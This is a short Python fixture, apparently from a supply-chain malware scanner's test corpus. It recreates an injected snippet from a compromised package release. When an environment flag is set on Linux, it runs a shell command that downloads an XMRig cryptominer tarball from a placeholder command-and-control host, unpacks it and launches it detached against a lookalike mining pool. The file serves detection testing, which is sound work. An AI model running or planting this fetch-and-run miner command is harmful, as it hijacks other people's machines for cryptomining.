# The injected snippet of 8.3.41 (opendatalab/PDF-Extract-Kit#193): on Linux, fetch XMRig and
# start it detached. XMRig's release on GitHub and the pool are stand-ins here: the loopback C2
# serves a tarball whose "xmrig" exits at once. Does nothing outside the live-corpus tests.
import os
import platform
import tempfile

if os.environ.get("SUPPLYWATCH_LIVE_CORPUS") == "1" and platform.system() == "Linux":
    work = tempfile.gettempdir()
    os.system(
        f"cd {work} && wget -q __C2@github.com__/xmrig/xmrig/releases/download/v6.22.2/xmrig-6.22.2-linux-static-x64.tar.gz"
        " && tar -xzf xmrig-6.22.2-linux-static-x64.tar.gz && cd xmrig-6.22.2"
        " && nohup ./xmrig -u 48REDACTEDWALLET -o connect.consrensys.com:8080 -k > /dev/null 2>&1 &"
    )
